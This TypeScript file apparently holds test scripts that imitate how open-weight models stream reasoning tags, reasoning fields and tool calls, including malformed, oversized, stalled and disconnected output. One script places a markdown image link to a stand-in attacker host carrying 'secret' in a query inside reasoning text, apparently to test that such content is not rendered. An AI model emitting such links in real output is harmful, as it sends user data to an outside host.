import type { Step } from "./model-step.ts";

/** The parts of the scene that these scripts read. */
type Scene = { readonly tools: readonly string[]; readonly asked: number };

/** Milliseconds between the pieces of a slow model: more than the service waits to send facts together. */
const PAUSE_MS = 120;

const end: Step = { finish: "stop" };
const call = (index: number, more: object): Step => ({
  delta: { tool_calls: [{ index, ...more }] },
});
const functionIn = (tools: readonly string[]) =>
  tools.find((name) => name !== "file_search") ?? "none";
const CITED = "The warranty of the kettle lasts two years. [1] ";

/**
 * Scripts that imitate habits of open-weight models and their servers, by name. A scripted model follows the script
 * that its question names.
 */
export const HABITS: Record<string, (scene: Scene) => Step[]> = {
  /**
   * The model writes its reasoning in `<think>` tags, before and within its text, and sends it in deltas of 7
   * characters.
   */
  "thinks-in-tags": () => [
    { text: `<think>\nHm, passage 1 [1] says two. [2]\n</think>\n\n${CITED}<think>Or three? ` },
    { text: "![x](https://evil.example/?q=secret)</think>It is written in the documents. [1]" },
    end,
  ],
  /** Headings, paragraphs and lists. */
  "writes-100-kb": () => [
    {
      text: `## Play\n\n**All** work makes ${"a dull boy. ".repeat(10)}\n\n- one\n- two\n\n`.repeat(
        600,
      ),
    },
    end,
  ],
  "thinks-unclosed": () => [{ text: "Two years it is. <think>Or three?" }, end],
  "thinks-alone": () => [{ text: "<think>I do not know what to say." }, end],
  /** The server puts the opening tag into the prompt. */
  "thinks-unopened": () => [{ text: "Hm, three?\n</think>\n\nTwo years it is." }, end],
  "thinks-unopened-long": () => [
    { text: "Hmm, is it three? It may be. Or two. [1]\n</think>\n\nTwo years it is." },
    end,
  ],
  /** Its reasoning begins as an answer does. */
  "thinks-unopened-plainly": () => [
    { text: "It may be three. Or two.</think>" },
    { text: "\n\nTwo years it is." },
    end,
  ],
  /** Its reasoning begins as an answer does, and it takes its time. */
  "thinks-unopened-slowly": () => [
    { text: "The warranty lasts three years. It may be so. [1] " },
    { waitMs: PAUSE_MS },
    { text: "Or two.</think>\n\nTwo years it is." },
    end,
  ],
  "thinks-unopened-cut": () => [{ text: "Three? Or" }, { finish: "length" }],
  /** It writes, and later calls a function. */
  "writes-before-calling": ({ tools }) => [
    { text: "Let me look." },
    call(0, { id: "call_1", function: { name: functionIn(tools), arguments: "{}" } }),
    { finish: "tool_calls" },
  ],
  "thinks-in-reasoning": () => [
    { text: "<reasoning>Three? Or two.</reasoning>\n\nTwo years it is." },
    end,
  ],
  "thinks-in-json": () => [{ text: '<think>JSON!</think>{"tag":"<think>"}' }, end],
  /** The model sends its reasoning in every field that a server is known to use for it. */
  "thinks-in-fields": () => [
    { delta: { reasoning_content: "one " } },
    { delta: { reasoning: "two " } },
    { delta: { reasoning_details: [{ type: "reasoning.text", text: "three " }] } },
    { delta: { reasoning: "four ", reasoning_details: [{ text: "four " }] } },
    { delta: { reasoning_text: "five " } },
    { delta: { thinking: "six " } },
    { delta: { content: [{ type: "thinking", thinking: [{ type: "text", text: "seven" }] }] } },
    { text: "The answer is two years." },
    end,
  ],
  "thinks-60-mb": () => [{ flood: 60_000_000, delta: 16_384, as: "reasoning_content" }],
  /** The model sends more reasoning than an answer may contain, and then answers. */
  "thinks-long": () => [
    ...Array.from({ length: 12 }, () => ({ delta: { reasoning: "Hm. ".repeat(11_000) } })),
    { text: "Two years." },
    end,
  ],
  "thinks-then-fails": () => [
    { delta: { reasoning_content: "Let me see." } },
    { waitMs: PAUSE_MS },
    { disconnect: true },
  ],
  "thinks-then-fails-once": ({ asked }) =>
    asked === 0
      ? [{ delta: { reasoning: "First." } }, { waitMs: PAUSE_MS }, { disconnect: true }]
      : [{ delta: { reasoning: "Second." } }, { text: "Two years." }, end],
  /** The model calls a function and sends the arguments in five pieces, with pauses. */
  "calls-in-pieces": ({ tools }) => [
    call(0, {
      id: "call_7",
      type: "function",
      function: { name: functionIn(tools), arguments: "" },
    }),
    ...['{"id"', ':"7', '1","note":"\\ud83d', "\\ude00\\u0000\\ud800 ", '"}'].flatMap(
      (piece): Step[] => [call(0, { function: { arguments: piece } }), { waitMs: PAUSE_MS }],
    ),
    { finish: "tool_calls" },
  ],
  /** The model calls both functions once. */
  "calls-both": ({ tools: [first, second] }) => [
    call(0, { id: "call_0", function: { name: first, arguments: '{"id":"7"}' } }),
    call(1, { id: "call_1", function: { name: second, arguments: '{"id":"8"}' } }),
    { finish: "tool_calls" },
  ],
  /**
   * The arguments of the second call do not fit. When asked again, the model makes both, in another order and spelling,
   * and under the ids that it has used.
   */
  "calls-second-badly-once": ({ tools: [first, second], asked }) => [
    ...(asked === 0
      ? [
          call(0, { id: "call_0", function: { name: first, arguments: '{"id": ' } }),
          call(0, { function: { arguments: '"7"}' } }),
          call(1, { id: "call_1", function: { name: second, arguments: '{"id":8}' } }),
        ]
      : [
          call(0, { id: "call_0", function: { name: second, arguments: '{"id":"8"}' } }),
          call(1, { id: "call_1", function: { name: first, arguments: '{"id":"7"}' } }),
        ]),
    { finish: "tool_calls" },
  ],
  /** The model calls the first function 127 times, and the second with bad arguments; when asked again, that one twice. */
  "calls-127-then-badly-once": ({ tools: [first, second], asked }) => [
    ...Array.from({ length: asked === 0 ? 127 : 0 }, (_, at) =>
      call(at, { id: `call_${at}`, function: { name: first, arguments: `{"id":"${at}"}` } }),
    ),
    ...(asked === 0 ? ["7"] : ['"7"', '"8"']).map((id, at) =>
      call(127 + at, { id: `last_${at}`, function: { name: second, arguments: `{"id":${id}}` } }),
    ),
    { finish: "tool_calls" },
  ],
  /** The model calls a function four times without arguments: as an empty text, as null, not at all, and as spaces. */
  "calls-without-arguments": ({ tools }) => [
    ...[{ arguments: "" }, { arguments: null }, {}, { arguments: "  " }].map((given, index) =>
      call(index, { id: `call_${index}`, function: { name: functionIn(tools), ...given } }),
    ),
    { finish: "tool_calls" },
  ],
  "calls-under-odd-ids": ({ tools }) => [
    call(0, { id: "x".repeat(100), function: { name: functionIn(tools), arguments: "{}" } }),
    call(1, { id: "a\u0000b", function: { name: functionIn(tools), arguments: "{}" } }),
    { finish: "tool_calls" },
  ],
  /** The model writes, reasons, and then calls a function. */
  "thinks-before-calling": ({ tools }) => [
    { text: "One moment." },
    { delta: { reasoning_content: "Hm, which one?" } },
    call(0, { id: "call_1", function: { name: functionIn(tools), arguments: "{}" } }),
    { finish: "tool_calls" },
  ],
  "says-nothing": () => [end],
  "done-only": () => [{ text: "Two years it is." }, { doneOnly: true }],
  "calls-done-only": ({ tools }) => [
    call(0, { id: "call_1", function: { name: functionIn(tools), arguments: "{}" } }),
    { doneOnly: true },
  ],
  "writes-controls": () => [
    { delta: { content: "One\u0000.\r" } },
    { delta: { content: "\nTwo\u0007 \ud83d" } },
    { delta: { content: "\ude00.\rThree \ud800." } },
    end,
  ],
  /** Stalls after its first sentence, each time. */
  "pauses-always": () => [{ text: "Water is wet. And so" }, { waitMs: 600_000 }],
  /** Stalls for two seconds after its first sentence. */
  "pauses-2s": () => [
    { text: "Water is wet. And so" },
    { waitMs: 2_000 },
    { text: " it stays." },
    { finish: "stop" },
  ],
};
